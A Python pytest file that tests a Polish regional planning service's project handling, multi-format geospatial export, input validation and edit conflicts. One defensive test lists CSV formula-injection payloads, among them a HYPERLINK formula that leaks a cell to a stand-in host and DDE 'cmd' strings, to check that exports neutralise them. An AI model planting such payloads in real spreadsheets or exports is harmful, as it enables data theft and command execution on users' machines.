"""Projects of all three geometry types, exported and read back with GDAL and geopandas."""

import io
import json
import subprocess
import zipfile

import geopandas as gpd
import pandas as pd
import pytest
import shapely
import sqlalchemy as sa

from core.errors import BadRequest, Conflict, InvalidInput
from services.planning.export_formats import EXPORT_FORMATS
from services.planning.exports import export
from services.planning.projects import (
    create_project,
    list_projects,
    project_history,
    update_project,
)

PROJECTS = [
    {"title": "Ścieżka rowerowa Wysokie Mazowieckie – Ciechanowiec", "theme": "transport",
     "geometry": {"type": "LineString", "coordinates": [[22.517, 52.918], [22.601, 52.876],
                                                        [22.731, 52.681]]},
     "cost_pln": "12500000.50", "funding_source": "fe_regional", "start_date": "2025-03-01",
     "end_date": "2027-10-31", "feasibility": "in_preparation", "priority": 1,
     "milestones": [{"name": "Dokumentacja", "date": "2025-09-30"}]},
    {"title": "Żłobek gminny w Czyżewie", "theme": "usługi społeczne",
     "geometry": {"type": "Point", "coordinates": [22.311, 52.797]},
     "cost_pln": 3000000, "funding_source": "kpo", "start_date": "2025-01-15"},
    {"title": "Rewitalizacja rynku w Ciechanowcu", "theme": "rewitalizacja",
     "geometry": {"type": "Polygon", "coordinates": [[[22.505, 52.679], [22.512, 52.679],
                                                      [22.512, 52.684], [22.505, 52.684],
                                                      [22.505, 52.679]]]},
     "feasibility": "completed", "funding_source": "own"},
]


@pytest.fixture(scope="module")
def projects(reference_engine, partnerships_loaded):
    return [create_project(reference_engine, "P01", p, author="test") for p in PROJECTS]


def test_projects_are_located_in_their_gminas(projects, boundaries_dir):
    import shapely

    gminas = gpd.read_file(boundaries_dir / "gminy.geojson").set_index("terc")
    for project, spec in zip(projects, PROJECTS, strict=True):
        shape = shapely.geometry.shape(spec["geometry"])
        expected = sorted(gminas.index[gminas.intersects(shape)])
        assert project["gminas"] == expected and expected
    assert projects[1]["gminas"] == ["2013033"]
    line = projects[0]
    assert line["cost_pln"] == 12500000.5 and line["milestones"] == [
        {"name": "Dokumentacja", "date": "2025-09-30"}]


def test_listing_totals_and_filters(reference_engine, projects):
    listed = list_projects(reference_engine, partnership="P01", limit=2)
    assert listed["total"] >= 3 and len(listed["items"]) == 2
    kpo = list_projects(reference_engine, funding_source="kpo", voivodeship="20")
    assert "Żłobek gminny w Czyżewie" in [p["title"] for p in kpo["items"]]


def test_shapefile_zip_holds_one_set_per_geometry_type(reference_engine, projects, tmp_path):
    out = export(reference_engine, "projects", "shp", tmp_path / "projekty.zip",
                 partnership="P01")
    assert out["layers"] == ["projects_points", "projects_lines", "projects_polygons"]
    names = set(zipfile.ZipFile(tmp_path / "projekty.zip").namelist())
    for layer in out["layers"]:
        assert {f"{layer}{s}" for s in (".shp", ".shx", ".dbf", ".prj", ".cpg")} <= names
    assert {"FIELDS.csv", "README.txt"} <= names
    ours = {p["id"]: p for p in projects}
    total = 0
    for layer, kind in zip(out["layers"], ("Point", "LineString", "Polygon"), strict=True):
        path = f"/vsizip/{tmp_path}/projekty.zip/{layer}.shp"
        info = subprocess.run(["ogrinfo", "-ro", "-so", "-al", path], capture_output=True,
                              text=True, check=True).stdout
        assert "START_DATE: Date" in info and "COST_PLN: Real" in info
        assert 'ID["EPSG",2180]' in info
        frame = gpd.read_file(path)
        assert frame.crs.to_epsg() == 2180
        assert set(frame.geom_type.str.replace("Multi", "")) == {kind}
        for _, row in frame.iterrows():
            if row["ID"] in ours:
                total += 1
                source = ours[row["ID"]]
                assert row["TITLE"] == source["title"]  # Polish letters intact
                assert row["THEME"] == source["theme"]
                if source["cost_pln"] is None:
                    assert pd.isna(row["COST_PLN"])
                else:
                    assert row["COST_PLN"] == source["cost_pln"]
                if source["start_date"]:
                    assert str(row["START_DATE"])[:10] == source["start_date"]
    assert total == 3


def test_other_formats_read_back(reference_engine, projects, tmp_path):
    for fmt in ("gpkg", "geojson", "fgb", "csv"):
        out = export(reference_engine, "projects", fmt, tmp_path / f"p.{fmt}", partnership="P01")
        info = subprocess.run(["ogrinfo", "-ro", "-so", "-al", out["path"]],
                              capture_output=True, text=True, check=True).stdout
        assert f"Feature Count: {out['features']}" in info, fmt
    geojson = json.loads((tmp_path / "p.geojson").read_text())
    x, y = geojson["features"][0]["geometry"]["coordinates"][0][:2] if \
        geojson["features"][0]["geometry"]["type"] != "Point" else \
        geojson["features"][0]["geometry"]["coordinates"]
    assert 14 < x < 24.5 and 49 < y < 55  # EPSG:4326, longitude first
    table = pd.read_csv(tmp_path / "p.csv")
    assert "Żłobek gminny w Czyżewie" in set(table["title"])
    areas = export(reference_engine, "partnerships", "shp", tmp_path / "partnerstwa.zip",
                   voivodeship="20")
    assert areas["features"] == 3 and areas["layers"] == ["partnerships_polygons"]


def test_stale_project_edit_gets_409_and_is_kept(reference_engine, projects):
    project = projects[1]
    update_project(reference_engine, project["id"], {"version": 1, "cost_pln": 3200000})
    with pytest.raises(Conflict):
        update_project(reference_engine, project["id"], {"version": 1, "cost_pln": 1})
    log = project_history(reference_engine, project["id"])
    assert [(h["version"], h["outcome"]) for h in log] == [
        (1, "accepted"), (2, "accepted"), (None, "conflict")]
    assert log[2]["data"]["cost_pln"] == "1.00"


@pytest.mark.parametrize(("change", "error", "message"), [
    ({"title": ""}, BadRequest, "title must not be empty"),
    ({"cost_pln": "dużo"}, BadRequest, "cost_pln must be a number"),
    ({"cost_pln": -5}, BadRequest, "non-negative"),
    ({"funding_source": "eu"}, BadRequest, "funding_source must be one of"),
    ({"start_date": "2026-01-01", "end_date": "2025-01-01"}, BadRequest, "end_date is before"),
    ({"priority": 7}, BadRequest, "priority must be"),
    ({"geometry": {"type": "Point", "coordinates": [0, 0]}}, InvalidInput, "outside Poland"),
    ({"area_ids": [999999]}, InvalidInput, "are not areas of partnership P01"),
])
def test_bad_project_input(reference_engine, partnerships_loaded, change, error, message):
    with pytest.raises(error, match=message):
        create_project(reference_engine, "P01", {**PROJECTS[1], **change})


HOSTILE_TITLES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")',
                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "\t=1+1", "\r=1+1"]


def test_csv_cells_cannot_become_formulas(reference_engine, partnerships_loaded, tmp_path):
    import csv

    from core.csv_cells import safe_cell
    from services.analysis.comparison import compare, comparison_csv

    created = [create_project(reference_engine, "P01", {**PROJECTS[1], "title": title,
                                                        "theme": "-", "cost_pln": 1234.5})
               for title in HOSTILE_TITLES]
    out = export(reference_engine, "projects", "csv", tmp_path / "p.csv", partnership="P01")
    with open(out["path"], newline="", encoding="utf-8") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    for project, title in zip(created, HOSTILE_TITLES, strict=True):
        row = rows[project["id"]]
        assert row["title"] == "'" + title.strip() and row["theme"] == "'-"  # titles are stripped
        assert row["cost_pln"] == "1234.5" and row["priority"] == "2"  # numbers stay numbers
    result = compare(reference_engine, "20")
    result["units"][0]["name"] = HOSTILE_TITLES[0]
    result["units"][0]["functional_areas"] = ["@evil"]
    table = list(csv.reader(io.StringIO(comparison_csv(result)[1:]), delimiter=";"))
    assert table[1][2] == "'" + HOSTILE_TITLES[0] and table[1][-1] == "'@evil"
    assert table[1][4] == str(round(result["units"][0]["area_km2"], 3)).replace(".", ",")
    assert [safe_cell(v) for v in ("\tx", "\rx", "-1", -1, 2.5, None, "")] == [
        "'\tx", "'\rx", "'-1", -1, 2.5, None, ""]


def test_csv_geometry_is_read_by_gdal(reference_engine, projects, tmp_path):
    out = export(reference_engine, "projects", "csv", tmp_path / "p.csv", partnership="P01")
    assert (tmp_path / "p.csvt").read_text().startswith("Integer,String,String")
    assert (tmp_path / "p.csvt").read_text().strip().endswith(",Integer,WKT")
    info = subprocess.run(["ogrinfo", "-ro", "-so", "-al", out["path"]], capture_output=True,
                          text=True, check=True).stdout
    assert "Geometry Column = geom_WKT" in info and 'ID["EPSG",2180]' in info
    assert "cost_pln: Real" in info and "start_date: Date" in info
    copy = tmp_path / "copy.gpkg"
    subprocess.run(["ogr2ogr", "-f", "GPKG", str(copy), out["path"]], check=True,
                   capture_output=True)
    frame = gpd.read_file(copy).set_index("id")
    assert frame.crs.to_epsg() == 2180 and len(frame) == out["features"]
    for project in projects:
        assert frame.loc[project["id"], "geometry"].geom_type == project["geometry_type"] \
            .title().replace("string", "String").replace("polygon", "Polygon")
    # The download is the CSV alone: GDAL still reads the geometry; the CRS is EPSG:2180.
    alone = tmp_path / "alone" / "p.csv"
    alone.parent.mkdir()
    alone.write_bytes((tmp_path / "p.csv").read_bytes())
    assert gpd.read_file(alone).geometry.notna().all()
    assert "Extent: (7" in subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(alone)],
                                          capture_output=True, text=True, check=True).stdout


@pytest.fixture
def huge_area(reference_engine, partnerships_loaded):
    """A stored functional area of 120,001 vertices (more than a drawing may have)."""
    with reference_engine.begin() as conn:
        area_id = conn.execute(sa.text(
            "INSERT INTO functional_area (partnership_id, name, kind, delineation, geom)"
            " SELECT 'P01', 'Dolina (bardzo dokładna)', 'river_valley', 'drawn',"
            " ST_Multi(ST_Buffer(ST_Centroid(geom), 3000, 30000)) FROM gmina"
            " WHERE teryt = '2013033' RETURNING id")).scalar_one()
        vertices = conn.execute(sa.text(
            "SELECT ST_NPoints(geom) FROM functional_area WHERE id = :i"), {"i": area_id}
        ).scalar_one()
    assert vertices > 100_000
    yield area_id
    with reference_engine.begin() as conn:
        conn.execute(sa.text("UPDATE functional_area SET deleted = true WHERE id = :i"),
                     {"i": area_id})


@pytest.mark.parametrize("fmt", ["csv", "geojson", "shp", "gpkg"])
def test_an_area_of_any_size_exports(reference_engine, huge_area, tmp_path, fmt):
    out = export(reference_engine, "areas", fmt, tmp_path / f"a{EXPORT_FORMATS[fmt].suffix}",
                 partnership="P01")
    path = f"/vsizip/{out['path']}/areas_polygons.shp" if fmt == "shp" else out["path"]
    frame = gpd.read_file(path)
    ids = frame["ID" if fmt == "shp" else "id"].astype(int).tolist()
    big = frame.geometry.iloc[ids.index(huge_area)]
    assert shapely.get_num_coordinates(big) > 100_000


def test_drawn_geometries_have_a_vertex_limit(reference_engine, partnerships_loaded):
    import numpy as np

    from services.planning.areas import create_area
    from spatial.geometry_input import MAX_VERTICES

    angles = np.linspace(0, 2 * np.pi, MAX_VERTICES + 10)
    ring = np.column_stack([22.4 + 0.05 * np.cos(angles), 52.8 + 0.03 * np.sin(angles)])
    ring[-1] = ring[0]
    drawn = {"type": "Polygon", "coordinates": [ring.tolist()]}
    with pytest.raises(InvalidInput, match="more than 50,000 vertices"):
        create_area(reference_engine, "P01", {"name": "Za dokładny", "kind": "other",
                                              "geometry": drawn})
    with pytest.raises(InvalidInput, match="more than 50,000 vertices"):
        create_project(reference_engine, "P01", {**PROJECTS[1], "geometry": drawn})
